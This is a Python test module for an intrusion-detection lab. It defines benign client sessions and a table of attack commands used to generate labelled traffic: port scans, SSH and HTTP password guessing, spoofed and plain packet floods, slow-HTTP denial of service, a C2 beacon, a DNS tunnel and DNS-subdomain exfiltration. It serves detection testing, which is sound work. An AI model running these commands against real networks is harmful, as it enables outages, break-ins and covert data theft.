"""What the hosts of the range do: tables of benign sessions and of attacks, one line each.

A line is a shell command that ends by itself within its time; `{name}` is an address or a value
of `lab.ADDRESSES` and `VALUES`, `{n}` a small random number.  To add a behaviour, add a line.
Family names are those of the alerts (ids_daemon/signatures.yaml).
"""

from __future__ import annotations

import random
import sys
from dataclasses import dataclass

from tests.range.lab import ADDRESSES, CLIENTS
from tests.range.services import CONTROLLER_PORT, DOMAIN, PEERS, TUNNEL_DOMAIN, TUNNEL_SECRET, TUNNEL_SERVER

SESSION_SECONDS = 15  #: a benign session is ended after this long
GUESSES = 80  #: passwords in words.txt

_SSH_OPTIONS = "-i user_key -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
VALUES = ADDRESSES | {
    "domain": DOMAIN,
    "peers": f"{sys.executable} {PEERS}",
    "port": str(CONTROLLER_PORT),
    "get": "curl -s -k -m 12 -o /dev/null",
    "ssh": f"ssh {_SSH_OPTIONS}",
    "scp": f"scp -q {_SSH_OPTIONS}",
    "nmap": "nmap -n -Pn --host-timeout 20s",
}


@dataclass(frozen=True)
class Session:
    """A benign session: what it is called, how often it is chosen, who does it, the command."""

    name: str
    weight: int
    hosts: str  #: names of clients, or "*" for all
    line: str


@dataclass(frozen=True)
class Attack:
    """An attack: what it is, who starts it on whom, the command and the seconds it may take."""

    family: str
    technique: str
    attacker: str  #: a host
    victims: tuple[str, ...]  #: names in ADDRESSES
    line: str
    seconds: int = 10
    spoofed: bool = False  #: sources are forged: labels name no attacker


SESSIONS = (
    Session("web", 6, "laptop desktop phone", "for p in index news photo; do {get} https://www.{domain}/$p.html; sleep 0.{n}; done"),
    Session("web-plain", 3, "laptop desktop", "{get} http://www.{domain}/ http://www.{domain}/news.html"),
    Session("web-ipv6", 2, "laptop phone", "{get} -6 https://www.{domain}/news.html"),
    Session("web-kept-alive", 2, "desktop phone", "{get} 'https://{web}/news.html?[1-{n}]'"),
    Session("web-login", 1, "laptop desktop", "{get} -u 'admin:correct horse' https://{web}/private/"),
    Session("download", 1, "laptop desktop", "{get} --limit-rate {n}00k https://www.{domain}/update.bin"),
    Session("nas-web", 2, "laptop desktop phone", "{get} http://{nas}/photo.jpg"),
    Session("nas-copy", 1, "laptop desktop", "{scp} root@{nas}:$PWD/www/photo.jpg /dev/null"),
    Session("shell", 2, "laptop desktop", "{ssh} root@{shell} 'for i in $(seq {n}); do uptime; sleep 0.7; done' >/dev/null"),
    Session("dns", 4, "laptop desktop phone", "for i in $(seq {n}); do dig +short h$i.{domain} A >/dev/null; sleep 0.4; done"),
    Session("dns-absent", 1, "laptop phone", "dig +short nothing.invalid A >/dev/null; true"),
    Session("ntp", 2, "*", "{peers} ask-time {clock} 2"),
    Session("mqtt-publish", 5, "camera", "for i in $(seq {n}); do mosquitto_pub -h {broker} -t cam/1 -m motion=$i; sleep 0.8; done"),
    Session("mqtt-subscribe", 1, "phone", "mosquitto_sub -h broker.{domain} -t 'cam/#' -W 10 >/dev/null; true"),
    Session("ping", 1, "*", "ping -q -c {n} -i 0.5 {web} >/dev/null"),
    Session("refused", 1, "desktop phone", "{get} -m 2 http://{nas}:8080/; true"),
)  # fmt: skip

ATTACKS = (
    Attack("scan", "nmap-syn", "scanner", ("nas",), "{nmap} -sS -p 1-1000 {nas}"),
    Attack("scan", "nmap-syn-inside", "camera", ("nas",), "{nmap} -sS -p 1-1000 {nas}"),
    Attack("scan", "nmap-connect", "camera", ("web",), "{nmap} -sT -p 1-1000 {web}"),
    Attack("scan", "nmap-udp", "camera", ("resolver",), "{nmap} -sU --top-ports 40 --max-retries 1 {resolver}"),
    Attack("scan", "nmap-fin", "scanner", ("nas",), "{nmap} -sF -p 1-500 {nas}"),
    Attack("scan", "nmap-version", "laptop", ("nas",), "{nmap} -sV -p 22,80,443 {nas}", 25),
    Attack("scan", "nmap-slow", "scanner", ("nas",), "{nmap} -sS --scan-delay 200ms --top-ports 60 {nas}", 20),
    Attack("sweep", "masscan-telnet", "camera", ("abroad",), "masscan -e eth0 {abroad} -p 23,2323 --rate 100 --wait 1"),
    Attack("sweep", "nmap-ping", "laptop", ("abroad",), "nmap -n -sn {abroad}", 15),
    Attack("bruteforce", "medusa-ssh", "guesser", ("nas",), "medusa -h {nas} -u admin -P words.txt -M ssh -t 4", 20),
    Attack("bruteforce", "hydra-http", "laptop", ("web",), "hydra -I -q -l admin -P words.txt -t 4 http-get://{web}/private/"),
    Attack("dos", "syn-flood", "flooder", ("nas",), "hping3 -q -S -p 80 -i u500 -c 5000 {nas}"),
    Attack("dos", "syn-flood-spoofed", "flooder", ("nas",), "hping3 -q -S --rand-source -p 80 -i u500 -c 5000 {nas}", spoofed=True),
    Attack("dos", "udp-flood", "camera", ("resolver",), "hping3 -q --udp -p 53 -d 120 -i u500 -c 5000 {resolver}"),
    Attack("dos", "icmp-flood", "camera", ("web",), "hping3 -q --icmp -d 56 -i u500 -c 5000 {web}"),
    Attack("dos", "ab", "camera", ("web",), "ab -q -n 1500 -c 20 http://{web}/"),
    Attack("dos", "slow-headers", "staller", ("nas",), "slowhttptest -H -c 150 -r 50 -i 2 -l 10 -p 2 -u http://{nas}/", 15),
    Attack("dos", "slow-body", "staller", ("nas",), "slowhttptest -B -c 150 -r 50 -i 2 -l 10 -p 2 -u http://{nas}/", 15),
    Attack("c2", "beacon", "camera", ("web",), "{peers} beacon {web} {port} 18 1", 20),
    Attack("tunnel", "iodine", "laptop", ("resolver",),
           f"iodine -f -r -d tunnel0 -P {TUNNEL_SECRET} {{resolver}} {TUNNEL_DOMAIN} & sleep 3;"
           f" ping -q -c 40 -i 0.2 -s 300 {TUNNEL_SERVER}; kill $!; wait $!; true", 18),
    Attack("exfil", "dns-names", "laptop", ("resolver",),
           "for i in $(seq 120); do dig +short +tries=1 $(openssl rand -hex 30).x.{domain} A >/dev/null; done", 15),
)  # fmt: skip


def choose_session(rng: random.Random, client: str) -> tuple[str, str]:
    """The name and the command of one session of `client`, drawn by weight."""
    own = [session for session in SESSIONS if session.hosts == "*" or client in session.hosts.split()]
    session = rng.choices(own, [one.weight for one in own])[0]
    return session.name, session.line.format(n=rng.randrange(2, 7), **VALUES)


def command_of(attack: Attack) -> str:
    """The shell command of an attack."""
    return attack.line.format(**VALUES)


def words(rng: random.Random) -> str:
    """The password list of the guessers, none of them right."""
    return "".join(f"{rng.randrange(36**6):x}\n" for _ in range(GUESSES))


CLIENT_NAMES = tuple(host.name for host in CLIENTS)
